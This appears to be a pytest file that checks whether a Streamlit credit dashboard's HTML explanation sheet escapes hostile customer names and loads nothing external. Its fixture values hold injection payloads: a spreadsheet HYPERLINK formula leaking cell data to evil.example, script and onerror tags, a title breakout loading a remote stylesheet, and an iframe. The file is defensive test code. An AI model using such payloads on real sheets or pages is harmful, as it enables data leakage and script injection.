"""The explanation sheet: whole in itself, naming what it rests on, and safe whatever customers are called."""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from dashboard.customers import credit_sheet
from dashboard.customers.credit_view import CreditView
from dashboard.nav import ROOT
from dashboard.words.format import Format
from dashboard.words.i18n import Translator
from data.state import State
from data.warehouse.snapshots import open_snapshot
from services.credit.policy_files import read_policy
from services.customers.lists import CustomerFile
from services.decided import grade_decisions
from services.publication import publication_flow, publishing_grades
from tests.actors import by

NAME = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)<script>alert('x')</script><img src=//evil.example/i onerror=x>"
)
ORG = '</title><link rel="stylesheet" href="//evil.example/s.css">@SUM(1)'
WHY = '"><iframe src=https://evil.example></iframe>&lt;b&gt;'
LOADS = {
    "src",
    "href",
    "srcset",
    "data",
    "action",
    "formaction",
    "poster",
    "background",
    "ping",
    "xlink:href",
}
BODY_TAGS = (
    "body",
    "h1",
    "h2",
    "p",
    "div",
    "b",
    "span",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "i",
    "ul",
    "li",
    "br",
)
HEAD_TAGS = {"html", "head", "meta", "title", "style"}
TAGS = HEAD_TAGS | set(BODY_TAGS)
AS_OF, DAY = date(2025, 12, 31), date(2026, 3, 15)


class Read(HTMLParser):
    """What a browser would find: elements, attributes, text."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture(scope="session")
def hostile(once_per_run: Callable[[str, Callable[[Path], object]], Path]) -> Path:
    """A warehouse whose customers and units all bear hostile names."""
    from services.warehouse.loading import load
    from services.warehouse.sampling import make_sample

    def rename(path: Path, column: str, name: str) -> None:
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.DictReader(file))
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]))
            writer.writeheader()
            writer.writerows({**row, column: name} for row in rows)

    def make(folder: Path) -> None:
        make_sample(folder / "extract", customers=60, months=26, seed=5)
        rename(folder / "extract" / "C_CONS.csv", "CONS_NAME", NAME)
        rename(folder / "extract" / "O_ORG.csv", "ORG_NAME", ORG)
        load(folder / "extract", folder / "house")

    return once_per_run("hostile-names", make) / "house"


@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_sheet_is_safe_whole_and_says_what_it_rests_on(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, language: str
) -> None:
    monkeypatch.setenv("DENGTA_WAREHOUSE", str(hostile))
    monkeypatch.setenv("DENGTA_STATE", f"sqlite:///{tmp_path / 'state.db'}")
    db, policy, state = open_snapshot(hostile), read_policy(), State.open(hostile)
    drafted = publishing_grades.draft(state, db, policy, AS_OF).customers.to_pylist()
    number = next(str(r["cons_no"]) for r in drafted if r["computed"] != "B")
    first, last = AS_OF + timedelta(days=1), date(2026, 12, 31)
    grade_decisions.overrule(db, state, by("wang"), policy, number, "B", first, last, WHY)
    publication_flow.publish(state, publishing_grades.draft(state, db, policy, AS_OF), by("li"), "yearly")
    made: list[str] = []

    def offered(view: CreditView, found: CustomerFile, _: str) -> None:
        whole = db.cursor().execute("select name from dim_customer where cons_no = ?", [number]).fetchone()
        assert whole is not None and whole[0] == NAME
        made.append(credit_sheet.sheet(view, found, whole[0], datetime(2026, 3, 15, 9, 30)))

    monkeypatch.setattr(credit_sheet, "offer", offered)
    app = AppTest.from_file(str(ROOT / "streamlit_app.py"), default_timeout=60)
    app.switch_page("pages/customers.py")
    for key, value in {"lang": language, "asof": DAY.isoformat(), "cons_no": number}.items():
        app.query_params[key] = value
    app.run()
    assert not app.exception and not app.error
    document = made[-1]
    read = Read(document)
    assert read.tags <= TAGS, read.tags - TAGS
    assert not read.attributes & LOADS and not [a for a in read.attributes if a.startswith("on")]
    for asked in ("url(", "@import", "http-equiv"):
        assert asked not in document, asked
    fmt = Format(Translator(language))
    for text in (
        NAME,
        ORG,
        WHY,
        number,
        policy.version,
        db.id,
        fmt.date(DAY),
        fmt.clock(datetime(2026, 3, 15, 9, 30)),
    ):
        assert text in read.text, text
